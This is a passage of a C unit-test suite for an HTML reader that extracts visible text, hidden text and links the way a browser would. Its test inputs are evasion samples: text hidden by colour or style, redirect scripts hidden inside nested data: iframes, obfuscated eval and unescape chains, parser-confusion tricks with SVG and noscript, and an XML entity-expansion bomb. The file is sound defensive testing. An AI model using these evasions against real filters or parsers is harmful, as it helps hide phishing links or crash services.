		{ "<style>@media (max-width:600px){.x{display:none}}</style>a"
		    "<p class=x>b", "" },
		{ "<style>@media (prefers-color-scheme:dark){p{color:#fff}}"
		    "</style>a<p>b", "" },
		{ "a<p style='color:#fff;background:#0070ba'>b", "" },
		{ "a<table><td bgcolor=blue><font color=white>b", "" },
		{ "a<table><td background=x.png><font color=white>b", "" },
		{ "a<p style='background:url(x) #fff;color:white'>b", "" },
		{ "a<p style='background:linear-gradient(red,blue);color:#fff'>"
		    "b", "" },
		{ "a<div style='color:#fff'><a href=x>b</a></div>", "" },
		{ "a<div style='color:#fff'><a name=x>b</a></div>", "b" },
		{ "a<div style='color:#fff'><a name=x style='color:red'>b",
		    "" },
		{ "a<div style='color:#fff'><a href=x style='color:inherit'>b",
		    "b" },
		{ "<style>p{color:#fff}</style>a<p style='color:inherit'>b",
		    "" },
		{ "<style>p{color:#fff}</style>a<p style='color:unset'>b",
		    "" },
		{ "<style>p{color:#fff}</style>a<p style='all:unset'>b", "" },
		{ "<style>p{color:#fff}</style>a<p style='color:revert'>b",
		    "" },
		{ "a<div style='color:#fff'><p style='all:unset'>b", "b" },
		{ "a<p style='color:#eee'>b", "" },
		{ "a<p style='color:inherit'>b", "" },
		{ "a<p style='color:#fff'><b style='color:red'>b", "" },
	};

	(void)state;
	for (size_t i = 0; i < nitems(cases); i++) {
		struct html_page page;
		url_list links = { 0 };

		html_read(&page, &links, arena, str_of(cases[i].html), 0, 9);
		if (!str_is(page.hidden, cases[i].hidden))
			fail_msg("%s: hidden \"%" STR_FMT "\"",
			    cases[i].html, STR_ARG(page.hidden));
	}
}

static void
test_pages_inside_are_read_to_a_depth(void **state)
{
	struct html_page page;
	url_list links = { 0 };

	(void)state;
	html_read(&page, &links, arena, STR("<p>a</p><iframe srcdoc='<p>b</p>"
	    "<iframe src=\"data:text/html,<a href=http://c.jp/>c</a>"
	    "%3Ciframe%20srcdoc=%22<a href=http://d.jp/>%22>\">'></iframe>"
	    "<object data='data:image/svg+xml,<svg><a xlink:href=http://e.jp/>"
	    "e</a></svg>'></object>"), 0, 100);
	assert_int_equal(links.n, 3);
	assert_string_equal(str_cstr(arena, page.visible), "a\nb\ne\nc");
	for (size_t i = 0; i < links.n; i++)
		assert_in_range(links.at[i].offset, 1, 300);
}

/* page, in a frame of a page, in a frame of a page... */
static struct str
framed(struct str page, size_t times)
{
	struct buf b;

	for (; times != 0; times--) {
		buf_init_arena(&b, arena, SIZE_MAX);
		buf_add_str(&b, STR("<iframe src='data:text/html,"));
		for (size_t i = 0; i < page.n; i++) {
			char c = page.p[i];

			if (c == '%' || c == '\'')
				buf_add_str(&b, str_printf(arena, "%%%02X", c));
			else
				buf_add_byte(&b, c);
		}
		buf_add_str(&b, STR("'></iframe>"));
		page = buf_str(&b);
	}
	return page;
}

static size_t
links_of(struct str html, bool *is_cut)
{
	struct html_page page;
	url_list links = { 0 };

	html_read(&page, &links, arena, html, 0, 100);
	*is_cut = page.is_cut;
	return links.n;
}

/* A link that is lost to a limit is none that nobody knows of. */
static void
test_what_scripts_have_too_much_of_is_said(void **state)
{
	static const struct {
		const char *html;
		size_t links;
		bool is_cut;
	} cases[] = {
		{ "<script>location=unescape(unescape(unescape(unescape("
		    "'http://a.example/'))))</script>", 1, false },
		{ "<script>location=unescape(unescape(unescape(unescape("
		    "unescape('http://a.example/')))))</script>", 0, true },
		{ "<a href=\"javascript:location=unescape(unescape(unescape("
		    "unescape(unescape('http://a.example/')))))\">x</a>", 0,
		    true },
		{ "<script>location=a;location=b;location=c;location=d;"
		    "location=e;location=f;location=g;h='http://a.example/';"
		    "location=h</script>", 1, false },
		{ "<script>location=a;location=b;location=c;location=d;"
		    "location=e;location=f;location=g;location=h;"
		    "i='http://a.example/';location=i</script>", 0, true },
	};
	bool is_cut;

	(void)state;
	for (size_t i = 0; i < nitems(cases); i++) {
		assert_int_equal(links_of(str_of(cases[i].html), &is_cut),
		    cases[i].links);
		assert_int_equal(is_cut, cases[i].is_cut);
	}
}

static void
test_pages_deep_inside_and_many_are_read(void **state)
{
	struct str link = STR("<a href=http://a.jp/>a</a>"), wide;
	struct buf many;
	bool is_cut;

	(void)state;
	assert_int_equal(links_of(framed(link, 12), &is_cut), 1);
	assert_false(is_cut);
	assert_int_equal(links_of(framed(link, 20), &is_cut), 0);
	assert_true(is_cut);
	buf_init_arena(&many, arena, SIZE_MAX);
	for (size_t i = 0; i < 100; i++)
		buf_add_str(&many, framed(i == 99 ? link : STR("<p>x"), 1));
	assert_int_equal(links_of(buf_str(&many), &is_cut), 1);
	assert_false(is_cut);
	/* as many bytes as the page has twice, and no more */
	buf_init_arena(&many, arena, SIZE_MAX);
	for (size_t i = 0; i < 20000; i++)
		buf_add_str(&many, STR("<br>text "));
	buf_add_str(&many, link);
	wide = buf_str(&many);
	assert_int_equal(links_of(framed(wide, 2), &is_cut), 1);
	assert_false(is_cut);
	assert_int_equal(links_of(framed(wide, 5), &is_cut), 0);
	assert_true(is_cut);
}

/* As a browser has it: 13.2.6.5 tells what of HTML ends SVG. */
static void
test_svg_ends_where_a_browser_ends_it(void **state)
{
	static const char *const inside[] = { "form", "input", "area", "wbr",
		"param", "section", "fieldset", "font", "address", "a",
		"style", "title", "/math" };
	static const char *const ends[] = { "p", "div", "span", "img", "ruby",
		"font size=1", "table", "li" };
	struct html_page page;
	url_list links;

	(void)state;
	for (size_t i = 0; i < nitems(inside); i++) {
		links.n = 0;
		html_read(&page, &links, arena, str_printf(arena,
		    "<svg><%s><style></svg>lure<a href=http://a.jp/>b</a>",
		    inside[i]), 0, 100);
		if (links.n != 1 || str_find_str(page.visible, STR("lure")) ==
		    page.visible.n)
			fail_msg("<%s>", inside[i]);
	}
	for (size_t i = 0; i < nitems(ends); i++) {
		links.n = 0;
		html_read(&page, &links, arena, str_printf(arena,
		    "<svg><%s><style></svg>lure<a href=http://a.jp/>b</a>",
		    ends[i]), 0, 100);
		if (links.n != 0)
			fail_msg("<%s> left SVG open", ends[i]);
	}
}

static bool
has_target(struct str html, struct str base, bool is_file, const char *url)
{
	struct html_page page;
	url_list links = { 0 };
	const struct url *u;

	html_read_from(&page, &links, arena, &(struct html_source){
	    .html = html, .base = base, .is_file = is_file,
	    .most_links = 100 });
	VEC_EACH(u, &links)
		if (str_is(u->normalized, url))
			return true;
	return false;
}

/* As a file each leads to http://a.jp/. */
static void
check_files(const char *const *pages, size_t n)
{
	for (size_t i = 0; i < n; i++)
		if (!has_target(str_of(pages[i]), STR(""), true,
		    "http://a.jp/"))
			fail_msg("%s", pages[i]);
}

static void
test_a_file_is_read_as_with_scripts_and_without(void **state)
{
	static const char *const pages[] = {
		"<noscript><style></noscript><a href=http://a.jp/>b</a>",
		"<noscript><!--</noscript><a href=http://a.jp/>b</a>",
		"<noscript><title></noscript><a href=http://a.jp/>b</a>",
		"<noscript><script></noscript><a href=http://a.jp/>b</a>",
		"<noscript><a title='</noscript><a href=http://a.jp/>b</a>",
		"<noscript><a href=http://a.jp/>b</a></noscript>",
		"<noscript></noscript><a href=http://a.jp/>b</a>",
	};

	(void)state;
	check_files(pages, nitems(pages));
}

static void
test_a_file_is_read_as_xml_too(void **state)
{
	static const char *const pages[] = {
		"<s:svg xmlns:s='http://www.w3.org/2000/svg' xmlns:x = "
		    "'http://www.w3.org/1999/xlink'><s:a x:href='http://a.jp/'"
		    ">b</s:a></s:svg>",
		"<svg><foreignObject><h:a xmlns:h="
		    "\"http://www.w3.org/1999/xhtml\" href='http://a.jp/'/>",
		"<svg><h:iframe xmlns:h='http://www.w3.org/1999/xhtml' "
		    "src='http://a.jp/'/></svg>",
		"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY h \"a.jp\">]>"
		    "<svg><a href='http://&h;/'>b</a></svg>",
		"<!DOCTYPE svg [<!ENTITY a 'http://a'><!ENTITY b '&a;.jp/'>]>"
		    "<svg><a href='&b;'>b</a></svg>",
		/* and what stands in front is not lost where it is HTML */
		"<a href='http://a.jp/'>b</a><!ENTITY c 'd'>",
		"<svg><script>eval(atob('bG9jYXRpb249Imh0dHA6Ly9hLmpwLyI="
		    "'))</script></svg>",
		"<script>eval('eval(\"location=\\'http://a.jp/\\'\")')"
		    "</script>",
	};

	(void)state;
	check_files(pages, nitems(pages));
}

/* A thousand million of them, written out. */
static void
test_entities_of_entities_end(void **state)
{
	struct html_page page;
	url_list links = { 0 };
	struct buf b;

	(void)state;
	buf_init_arena(&b, arena, SIZE_MAX);
	buf_printf(&b, "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'>");
	for (char c = 'b'; c < 'k'; c++) {
		buf_printf(&b, "<!ENTITY %c '", c);
		for (int i = 0; i < 10; i++)
			buf_printf(&b, "&%c;", c - 1);
		buf_printf(&b, "'>");
	}
	buf_printf(&b, "<!ENTITY x '&x;'>]><svg><text>&j;&x;</text></svg>");
	html_read_from(&page, &links, arena, &(struct html_source){
	    .html = buf_str(&b), .is_file = true, .most_links = 10 });
	assert_true(page.is_cut);
	assert_true(page.visible.n < 200000);
}

static void
test_links_that_are_no_anchors_have_texts(void **state)
{
	static const struct page_case cases[] = {
		{ "<area href=http://a.jp/ alt='ログイン'>", "ログイン" },
		{ "<area href=http://a.jp/ title=b>", "b" },
		{ "<form action=http://a.jp/><input name=c value=x>"
		    "<button><b>b</b> c</button><button>d</button>", "b c" },
		{ "<form action=http://a.jp/><input type=submit value=b>",
		    "b" },
		{ "<form><button formaction=http://a.jp/>b</button>", "b" },
		{ "<a href=http://a.jp/><img title=b src=x></a>", "b" },
	};

	(void)state;
	for (size_t i = 0; i < nitems(cases); i++) {
		struct html_page page;
		url_list links = { 0 };

		html_read(&page, &links, arena, str_of(cases[i].html), 1, 100);
		assert_int_equal(links.n, 1);
		if (!str_is(links.at[0].text, cases[i].wanted))
			fail_msg("%s", cases[i].html);
	}
}

static void
test_relative_links_start_where_a_browser_has_them(void **state)
{
	struct str base = STR("http://a.jp/x/"), path;
	struct buf b;

	(void)state;
	assert_true(has_target(STR("<svg><base href=http://b.jp/></svg>"
	    "<a href=h>q</a>"), base, false, "http://a.jp/x/h"));
	assert_true(has_target(STR("<template><base href=http://b.jp/>"
	    "</template><a href=h>q</a>"), base, false, "http://a.jp/x/h"));
	assert_true(has_target(STR("<base href=http://b.jp/><iframe srcdoc='"
	    "<a href=h>q</a>'></iframe>"), base, false, "http://b.jp/h"));
	buf_init_arena(&b, arena, SIZE_MAX);
	for (size_t i = 0; i < 5000; i++)
		buf_add_byte(&b, 'x');
	path = str_cat(arena, STR("<base href=http://b.jp/"), buf_str(&b),
	    STR("/><a href=/h>q</a>"));
	assert_true(has_target(path, STR(""), false, "http://b.jp/h"));
}

static void
test_what_leads_nowhere_is_no_link(void **state)
{
	static const char *const cases[] = {
		"<a href='mailto:a@b.jp'>x</a>", "<a href='tel:110'>x</a>",
		"<a href='javascript:x()'>x</a>", "<a href='#x'>x</a>",
		"<a href='/x'>x</a>", "<a href=x.html>x</a>", "<a>x</a>",
		"<a href>x</a>", "<a name='http://a.jp/'>x</a>",
		"<!-- <a href='http://a.jp/'>x</a> -->",
		"<script><a href='http://a.jp/'>x</a></script>",
		"<style><a href='http://a.jp/'>x</a></style>",
		"<title><a href='http://a.jp/'>x</a></title>",
		"<a href='http://a.jp/", "<img src='cid:1'>",
		"<meta http-equiv=refresh content=5>",
	};

	(void)state;
	for (size_t i = 0; i < nitems(cases); i++) {
		struct html_page page;
		url_list links = { 0 };

		html_read(&page, &links, arena, str_of(cases[i]), 0, 100);
		if (links.n != 0)
			fail_msg("%s: %s", cases[i],
			    str_cstr(arena, links.at[0].normalized));
	}
}

static void
test_relative_links_follow_the_base_wherever_it_stands(void **state)
{
	static const char *const pages[] = {
		"<base href='http://a.jp/x/y'><a href='z?1'>t</a>",
		"<a href='z?1'>t</a><base href='http://a.jp/x/y'>",
		("<base href='http://a.jp/x/y'><base href='http://b.jp/'>"
		    "<a href='z?1'>t</a>"),
	};

	(void)state;
	for (size_t i = 0; i < nitems(pages); i++) {
		struct html_page page;
		url_list links = { 0 };
		const struct url *u;
		size_t found = 0;

		html_read(&page, &links, arena, str_of(pages[i]), 0, 100);
		VEC_EACH(u, &links)
			found += u->source == URL_A &&
			    str_is(u->normalized, "http://a.jp/x/z?1");
		assert_int_equal(found, 1);
	}
}

static void
test_offsets_point_into_the_markup(void **state)
{
	struct str html = STR("<p>あ<a class=x href=\"http://a.jp/\">b</a>");
	struct html_page page;
	url_list links = { 0 };

	(void)state;
	html_read(&page, &links, arena, html, 0, 100);
	assert_int_equal(links.n, 1);
	assert_int_equal(links.at[0].offset,
	    str_find_str(html, STR("http")));
}

static void
test_links_to_follow_come_before_a_flood_of_images(void **state)
{
	size_t n = 5000;
	struct str image = STR("<img src=http://a.jp/>");
	struct str link = STR("<a href=http://b.jp/>x</a>");
	char *html = arena_take(arena, n * image.n + link.n);
	struct html_page page;
	url_list links = { 0 };

	(void)state;
	for (size_t i = 0; i < 100; i++)
		memcpy(html + i * image.n, image.p, image.n);
	memcpy(html + 100 * image.n, link.p, link.n);
	html_read(&page, &links, arena,
	    (struct str){ html, 100 * image.n + link.n }, 0, 50);
	assert_int_equal(links.n, 50);
	assert_int_equal(links.at[0].source, URL_A);
}

static void
test_references_are_undone_in_text(void **state)
{
	(void)state;
	assert_string_equal(str_cstr(arena, html_unescape(arena,
	    STR("&#169;&lt;&notit;&unknown;&#xFFFFFFFF;&&amp"))),
	    "©<¬it;&unknown;\ufffd&&");
}

static int64_t
cost(const char *unit, size_t n)
{
	size_t length = strlen(unit);
	char *text = arena_take(arena, length * n);
	struct html_page page;
	url_list links = { 0 };
	int64_t begin;

	for (size_t i = 0; i < n; i++)
		memcpy(text + i * length, unit, length);
	begin = cpu_us();
	html_read(&page, &links, arena, (struct str){ text, length * n }, 0,
	    2000);
	begin = cpu_us() - begin;
	assert_true(utf8_is_valid(page.visible));
	arena_empty(arena);
	return begin;
}

static void
test_time_grows_with_the_page_and_no_faster(void **state)
{
	static const char *const units[] = {
		"<", "<a", "<!--", "<!", "</", "<a href=", "<a href='", "&",
		"&a", "&#", "<b>", "<div>", "<p><b>", "<table><td>",
		"<a href=http://a.jp/>", "<div></b>", "<script>", "<title>",
		"<script><!--<script>", "<svg><![CDATA[", "]]>", "-->",
		"<li><ul>", "<font size=1>x</p>", "<x y", "<p style='url(",
		"<bdo dir=rtl>ab<bdo dir=ltr>cd", "<bdo dir=rtl>a</bdo>",
		"<p style='a:b(;'>", "<td><a href=x><img alt=x>",
		"<meta http-equiv=refresh content=url=>", "<base href=x>",
		"<i></i></div>", "<style>.a{display:none}", "<template>",
		"<style>.a{display:none}</style><b class='a a a'>",
		"<style>b~i{display:none}</style><i></i>",
		"<plaintext", "<a b=c ",
	};

	(void)state;
	for (size_t i = 0; i < nitems(units); i++) {
		int64_t one = cost(units[i], 20000);
		int64_t two = cost(units[i], 40000);

		if (two > 5 * one + 50000)
			fail_msg("%s: %d and %d us", units[i], (int)one,
			    (int)two);
	}
}

static void
test_what_comes_before_a_bomb_is_still_found(void **state)
{
	struct buf html;
	struct html_page page;
	url_list links = { 0 };

	(void)state;
	buf_init_arena(&html, arena, 1000010);
	buf_add_str(&html, STR("<a href=http://a.jp/>t</a>"));
	while (buf_str(&html).n < 1000000)
		buf_add_str(&html, STR("<div>"));
	html_read(&page, &links, arena, buf_str(&html), 0, 10);
	assert_int_equal(links.n, 1);
	assert_string_equal(str_cstr(arena, links.at[0].text), "t");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_text_reads_as_in_a_browser),
		cmocka_unit_test(
		    test_alternative_text_of_pictures_stands_below_the_text),
		cmocka_unit_test(test_text_forced_to_the_left_is_turned_round),
		cmocka_unit_test(test_text_that_no_eye_sees_is_kept_apart),
		cmocka_unit_test(test_outlook_is_told_what_others_overlook),
		cmocka_unit_test(test_links_come_with_what_the_reader_sees),
		cmocka_unit_test(test_what_other_programs_are_told_is_no_host),
		cmocka_unit_test(
		    test_style_sheets_are_laid_over_each_other_as_in_a_browser),
		cmocka_unit_test(
		    test_text_in_the_colour_of_its_ground_is_hidden),
		cmocka_unit_test(
		    test_text_moved_or_cut_off_the_page_is_hidden),
		cmocka_unit_test(
		    test_attributes_and_details_hide_as_in_a_browser),
		cmocka_unit_test(test_pages_inside_are_read_to_a_depth),
		cmocka_unit_test(test_what_scripts_have_too_much_of_is_said),
		cmocka_unit_test(test_pages_deep_inside_and_many_are_read),
		cmocka_unit_test(test_svg_ends_where_a_browser_ends_it),
		cmocka_unit_test(
		    test_a_file_is_read_as_with_scripts_and_without),
		cmocka_unit_test(
		    test_a_file_is_read_as_xml_too),
		cmocka_unit_test(
		    test_entities_of_entities_end),
		cmocka_unit_test(
		    test_links_that_are_no_anchors_have_texts),
		cmocka_unit_test(
		    test_relative_links_start_where_a_browser_has_them),
		cmocka_unit_test(test_what_leads_nowhere_is_no_link),
		cmocka_unit_test(
		    test_relative_links_follow_the_base_wherever_it_stands),
		cmocka_unit_test(test_offsets_point_into_the_markup),
		cmocka_unit_test(
		    test_links_to_follow_come_before_a_flood_of_images),
		cmocka_unit_test(test_references_are_undone_in_text),
		cmocka_unit_test(test_time_grows_with_the_page_and_no_faster),
		cmocka_unit_test(test_what_comes_before_a_bomb_is_still_found),
	};

	return cmocka_run_group_tests(tests, scratch_open, scratch_close);
}
